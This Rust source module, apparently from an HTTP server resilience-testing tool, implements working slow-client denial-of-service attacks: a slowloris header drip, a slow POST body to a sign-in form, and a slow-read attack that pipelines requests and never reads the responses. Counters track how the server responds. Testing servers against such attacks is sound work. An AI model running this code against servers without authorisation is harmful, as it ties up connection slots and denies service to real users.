//! Clients that take their time so that the server has to hold a place for them.

use super::Field;
use crate::wire::Stream;
use std::sync::Arc;
use std::time::{Duration, Instant};
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::time::sleep;

/// Between two bytes.
const DRIP: Duration = Duration::from_millis(900);
/// Bytes that drip at the most.
const DRIPS_MAX: usize = 60;

/// A header that comes byte by byte and never ends ("slowloris").
pub(super) async fn header(field: Arc<Field>, number: u64) {
    let since = Instant::now();
    let Some(mut stream) = field.open(number, false).await else { return };
    let begin = format!("GET / HTTP/1.1\r\nHost: {}\r\nX-A: ", field.speech.host);
    field.toll.bump(|toll| &toll.requests);
    if stream.write_all(begin.as_bytes()).await.is_err() {
        return field.toll.closed_after(since.elapsed());
    }
    drip(&field, stream, since).await;
}

/// A form whose body comes byte by byte.
pub(super) async fn body(field: Arc<Field>, number: u64) {
    let since = Instant::now();
    let Some(mut stream) = field.open(number, false).await else { return };
    let begin = format!(
        "POST /sign-in HTTP/1.1\r\nHost: {}\r\nContent-Type: application/x-www-form-urlencoded\r\n\
         Content-Length: 4000\r\n\r\nlogin=a",
        field.speech.host
    );
    field.toll.bump(|toll| &toll.requests);
    if stream.write_all(begin.as_bytes()).await.is_err() {
        return field.toll.closed_after(since.elapsed());
    }
    drip(&field, stream, since).await;
}

async fn drip(field: &Field, stream: Stream, since: Instant) {
    let (mut hears, mut says) = tokio::io::split(stream);
    let dripping = async {
        for _ in 0..DRIPS_MAX {
            sleep(DRIP).await;
            if says.write_all(b"a").await.is_err() || says.flush().await.is_err() {
                return;
            }
        }
    };
    let hearing = async {
        let mut buffer = [0; 4_096];
        let mut first = true;
        loop {
            match hears.read(&mut buffer).await {
                Ok(0) | Err(_) => return,
                Ok(n) if first => {
                    first = false;
                    if let Some(status) = super::field::status_of(&buffer[..n]) {
                        field.toll.answered(status);
                    }
                }
                Ok(_) => {}
            }
        }
    };
    tokio::select! {
        () = dripping => {}
        () = hearing => {}
    }
    field.toll.closed_after(since.elapsed());
}

/// Asks for much on one connection and takes none of it; the kernel holds little for us.
pub(super) async fn read(field: Arc<Field>, number: u64) {
    let mut origin = field.origin(number);
    origin.receive_buffer_bytes = Some(2_048);
    let since = Instant::now();
    let Some(mut stream) = field.open_from(origin, false).await else { return };
    let request = format!("GET {} HTTP/1.1\r\nHost: {}\r\n\r\n", field.big_file, field.speech.host);
    // Answers queue up until nothing of ours can be written any more, or the server has had enough.
    for _ in 0..400 {
        field.toll.bump(|toll| &toll.requests);
        let writing = tokio::time::timeout(Duration::from_secs(2), stream.write_all(request.as_bytes()));
        match writing.await {
            Ok(Ok(())) => {}
            Ok(Err(_closed)) => return field.toll.closed_after(since.elapsed()),
            Err(_full) => break,
        }
    }
    // Not reading; a byte now and then, so that the connection is not an idle one.
    for _ in 0..DRIPS_MAX {
        tokio::select! {
            () = stream.until_reset() => return field.toll.closed_after(since.elapsed()),
            () = sleep(DRIP) => {}
        }
        let poke = tokio::time::timeout(Duration::from_millis(50), stream.write_all(b"G"));
        if let Ok(Err(_closed)) = poke.await {
            return field.toll.closed_after(since.elapsed());
        }
    }
    field.toll.bump(|toll| &toll.still_open);
}
